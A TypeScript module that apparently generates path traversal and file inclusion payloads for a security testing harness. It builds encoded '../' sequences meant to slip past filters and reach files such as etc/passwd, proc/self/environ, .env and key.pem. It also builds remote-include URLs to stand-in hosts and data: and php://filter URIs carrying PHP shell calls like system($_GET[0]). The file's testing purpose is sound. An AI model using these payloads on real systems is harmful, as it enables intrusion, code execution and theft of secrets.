import type { Random } from '../../lib/random.ts';
import type { Attack, Context, Grammar, Oracle } from '../contract.ts';
import type { Disguise, FileContext } from '../oracle/files/contexts.ts';

/** A way out of the folder, then a file; or a whole path, or the address of code. */
export const pathGrammar: Grammar = {
  language: 'path',
  attack: (random: Random, oracle: Oracle, context: Context): Attack => {
    const place = context as FileContext;
    const isRemote = oracle.category === 'rfi' && random.chance(75);
    const { kind, value } = isRemote ? remote(random, place) : local(random, place);
    return { kind: `${kind}/${place.disguise}`, values: [value] };
  },
};

interface Made {
  readonly kind: string;
  readonly value: string;
}

const near: Readonly<Record<string, readonly string[]>> = {
  '': [
    '.env',
    'config.php',
    'config/app.json',
    'private/notes.txt',
    'private/index.html',
    'files-private/key.pem',
  ],
  '.html': ['private/report', 'private/index', 'files_old/index'],
  '.txt': ['private/notes', 'config/app'],
  '.php': ['private/panel', 'config'],
  '/index.html': ['private', 'files_old'],
  '/theme.php': ['private'],
};

const far = [
  ...['etc/passwd', 'etc/group', 'etc/hosts', 'etc/hostname', 'etc/fstab', 'etc/os-release'],
  ...['etc/resolv.conf', 'proc/self/environ', 'proc/self/cmdline', 'proc/version', 'etc/crontab'],
  ...['proc/self/status', 'proc/cpuinfo'],
];

const word = (random: Random): string =>
  random.times(2 + random.below(7), () => random.pick([...'abcdefghijklmnopqrstuvwxyz'])).join('');

function local(random: Random, place: FileContext): Made {
  const { suffix, isAbsolute, disguise, hasPrefix, depth } = place;
  if (disguise === 'sibling') {
    const file =
      suffix === ''
        ? random.pick(['files-private/key.pem', 'files_old/index.html'])
        : 'files_old/index';
    return { kind: 'sibling', value: `${detour(random)}../${file}` };
  }
  if (isAbsolute && random.chance(50)) return absolute(random, place);
  const isNear = suffix !== '' || random.chance(40);
  const file = isNear ? random.pick(near[suffix] ?? ['private']) : random.pick(far);
  const ups = isNear ? depth : 7 + random.below(12);
  const into = hasPrefix ? `${word(random)}/../` : random.chance(20) ? detour(random) : '';
  const value = into + '../'.repeat(ups) + file;
  return { kind: isNear ? 'near' : 'far', value: disguised(value, disguise, random) };
}

const detour = (random: Random): string =>
  random.pick(['', './', 'guide/../', 'user_ann/../', './/']);

function absolute(random: Random, { disguise, suffix }: FileContext): Made {
  const path =
    suffix === ''
      ? `/${random.pick(far)}`
      : `/tmp/srv/www/shop/${random.pick(near[suffix] ?? ['private'])}`;
  if (disguise !== 'url') return { kind: 'absolute', value: path };
  const scheme = random.pick(['file://', 'file://', 'file:', '', 'file:///']);
  return { kind: 'file URL', value: `${scheme}${path}` };
}

/** Puts `../` in the form that the code overlooks. */
function disguised(value: string, disguise: Disguise, random: Random): string {
  const each = (make: () => string): string => value.replaceAll('../', make);
  switch (disguise) {
    case 'nested':
      return each(() => random.pick(['....//', '..././']));
    case 'percent':
      return each(() =>
        random.pick(['..%2f', '..%2F', '%2e%2e%2f', '%2E%2E%2F', '%2e%2e/', '.%2e/', '%2e./']),
      );
    case 'percent dots':
      return each(() => random.pick(['../', '%2e%2e/', '.%2E/', '%2E./']));
    case 'percent twice':
      return each(() =>
        random.pick(['..%252f', '..%252F', '%252e.%252f', '.%252E%252f', '%252e./']),
      );
    case 'backslash':
      return each(() => '..\\');
    case 'wide':
      return each(() => random.pick(['．．/', '..／', '．．／', '‥／', '‥/', '.．/']));
    case 'broken by controls':
      return each(() => {
        const control = String.fromCharCode(1 + random.below(31));
        return `.${control}./`;
      });
    case 'url':
      return each(() => random.pick(['../', '..\\', '%2e%2e/', '.%2E/', '..\t/', '.\n./']));
    default:
      return value;
  }
}

const call = (random: Random): string =>
  random.pick([
    `system(${random.pick(["'id'", '$_GET[0]', "'ls -la'", "'uname -a'"])})`,
    'phpinfo()',
    `shell_exec('${random.pick(['id', 'cat /etc/passwd', 'whoami'])}')`,
    `passthru(base64_decode('${Buffer.from(word(random)).toString('base64')}'))`,
    `exec('${word(random)}')`,
  ]);
const code = (random: Random): string =>
  random.pick([`<?php ${call(random)};`, `<?=${call(random)}?>`, `<?php echo ${call(random)};?>`]);

function remote(random: Random, { disguise, suffix }: FileContext): Made {
  const tail = suffix === '' ? '' : random.pick(['?', '#', `?${word(random)}=`, '', '/x?']);
  if (disguise === 'url' || (random.chance(45) && suffix === '')) return inData(random);
  if (random.chance(15) && suffix === '') {
    const source = `data:,${encodeURIComponent(Buffer.from(code(random)).toString('base64'))}`;
    return { kind: 'filter', value: `php://filter/convert.base64-decode/resource=${source}` };
  }
  const scheme = random.pick(['http', 'https', 'ftp', 'http']);
  const host = random.pick([
    `${word(random)}.${random.pick(['test', 'example', 'invalid'])}`,
    `${1 + random.below(223)}.${random.below(256)}.${random.below(256)}.${1 + random.below(254)}`,
    `${word(random)}.example.net:${1024 + random.below(9000)}`,
  ]);
  const file = `${word(random)}${random.pick(['.txt', '.php', '', '.jpg', '.gif'])}`;
  return { kind: 'remote', value: `${scheme}://${host}/${file}${tail}` };
}

function inData(random: Random): Made {
  const text = code(random);
  const type = random.pick(['text/plain', '', 'text/html', 'image/png', 'application/x-php']);
  const begin = random.pick(['data:', 'data://']);
  const value =
    random.chance(50) || begin === 'data:'
      ? `${begin}${type};base64,${Buffer.from(text).toString('base64')}`
      : `${begin}${type},${text.replace(/[%+]/g, encodeURIComponent)}`;
  return { kind: 'data', value };
}
